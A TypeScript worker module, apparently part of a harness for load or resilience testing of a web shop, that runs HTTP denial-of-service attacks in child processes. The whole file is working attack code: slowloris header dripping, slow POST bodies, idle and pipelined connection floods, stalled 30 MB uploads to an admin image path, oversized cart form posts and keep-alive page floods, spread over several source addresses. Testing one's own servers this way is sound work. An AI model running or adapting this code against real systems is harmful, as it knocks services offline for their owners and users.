import http from 'node:http'
import net from 'node:net'
import type { AttackName, Counted, Order } from './attack'

/* One attack in a process of its own: it says when it stands, goes on until told to stop, and counts. */

/** Whatever becomes of whoever started it, an attack ends by itself; milliseconds. */
const LONGEST_MS = 180_000
/** How often a slow sender sends its next byte, milliseconds. */
const DRIP_MS = 1_000
/** A closed connection is opened again, so often on average. */
const REOPENED = 3

const sockets = new Set<net.Socket>()
const counted: Counted = { tried: 0, answered: 0, failed: 0 }
let isOver = false

process.once('message', (order: Order) => {
  setTimeout(finish, LONGEST_MS).unref()
  process.once('message', finish)
  void ATTACKS[order.name](order).then(() => process.send?.('ready'))
})
process.once('disconnect', () => process.exit())

function finish() {
  isOver = true
  for (const socket of sockets) socket.destroy()
  process.send?.(counted, () => process.exit())
}

/** Each resolves when the attack is at its full strength. */
const ATTACKS: Record<AttackName, (order: Order) => Promise<void>> = {
  texts: (order) => posts(order, longForm(order)),
  uploads: (order) => openEach(order, restingUpload(order)),
  idle: (order) => openEach(order, ''),
  pipelined: (order) => openEach(order, pipeline(order)),
  headers: (order) => openEach(order, `GET / HTTP/1.1\r\nHost: ${hostOf(order)}\r\n`, 'X-A: b\r\n'),
  bodies: (order) => openEach(order, slowForm(order), 'a'),
  pages: (order) => visits(order),
}

/** Opens every connection and sends the same on each, then a drop more every second. */
async function openEach(order: Order, first: string, drip = '') {
  let left = order.connections * REOPENED
  const opened = Array.from({ length: order.connections }, (_, place) => open(place))
  await Promise.all(opened)
  if (drip) {
    setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(drip)
    }, DRIP_MS).unref()
  }

  function open(place: number): Promise<void> {
    left -= 1
    return new Promise((resolve) => {
      const socket = connect(order, place)
      socket.once('connect', () => (first ? socket.write(first, () => resolve()) : resolve()))
      socket.on('data', (part) => (counted.answered += answersIn(part)))
      socket.once('close', () => {
        resolve()
        if (!isOver && left > 0) void open(place)
      })
    })
  }
}

function connect(order: Order, place: number): net.Socket {
  const { hostname, port } = new URL(order.origin)
  const localAddress = order.from[place % order.from.length]
  const socket = net.connect({ host: addressOf(hostname), port: Number(port), localAddress })
  counted.tried += 1
  sockets.add(socket)
  socket.once('error', () => (counted.failed += 1))
  socket.once('close', () => sockets.delete(socket))
  return socket
}

/** Keeps asking on every connection: the next as soon as the last was answered. */
async function keepAsking(order: Order, options: http.RequestOptions, body?: string) {
  const { hostname, port } = new URL(order.origin)
  const agents = order.from.map((localAddress) => {
    const maxSockets = Math.ceil(order.connections / order.from.length)
    return new http.Agent({ keepAlive: true, maxSockets, localAddress })
  })
  const stand = Array.from({ length: order.connections }, (_, place) => {
    const agent = agents[place % agents.length]
    return new Promise<void>((resolve) => void again(agent, resolve))
  })
  await Promise.all(stand)

  async function again(agent: http.Agent | undefined, stands: () => void) {
    while (!isOver) {
      await new Promise<void>((resolve) => {
        counted.tried += 1
        const asked = http.request(
          { agent, host: addressOf(hostname), port, ...options },
          (answer) => {
            counted.answered += 1
            answer.resume().once('close', () => resolve())
          },
        )
        asked.once('error', () => {
          counted.failed += 1
          setTimeout(resolve, 50)
        })
        asked.end(body, stands)
      })
    }
  }
}

function visits(order: Order) {
  return keepAsking(order, { method: 'GET', path: order.page, headers: { Host: hostOf(order) } })
}

function posts(order: Order, body: string) {
  const headers = {
    Host: hostOf(order),
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': Buffer.byteLength(body),
  }
  return keepAsking(order, { method: 'POST', path: order.form, headers }, body)
}

function longForm(order: Order): string {
  return `intent=add-to-cart&dedication=${'feliz cumple '.repeat(order.bytes / 13)}`
}

function slowForm(order: Order): string {
  return postHead(order, '/carrito', 'application/x-www-form-urlencoded', 90_000)
}

/** The beginning of a picture of 30 MB, after which nothing comes. */
function restingUpload(order: Order): string {
  const type = 'multipart/form-data; boundary=siege'
  const part =
    '--siege\r\nContent-Disposition: form-data; name="image"; filename="f.jpg"\r\n' +
    'Content-Type: image/jpeg\r\n\r\n'
  return postHead(order, '/admin/imagen', type, 30_000_000) + part + 'x'.repeat(order.bytes)
}

function pipeline(order: Order): string {
  const request = `GET ${order.page} HTTP/1.1\r\nHost: ${hostOf(order)}\r\n\r\n`
  return request.repeat(order.bytes)
}

function postHead(order: Order, path: string, type: string, length: number): string {
  return (
    `POST ${path} HTTP/1.1\r\nHost: ${hostOf(order)}\r\nOrigin: ${order.origin}\r\n` +
    `Content-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
  )
}

function hostOf({ origin }: Order): string {
  return new URL(origin).host
}

/** The attackers' own addresses are all of IPv4. */
function addressOf(hostname: string): string {
  return hostname === 'localhost' ? '127.0.0.1' : hostname
}

function answersIn(part: Buffer): number {
  return part.toString('latin1').split('HTTP/1.1 ').length - 1
}
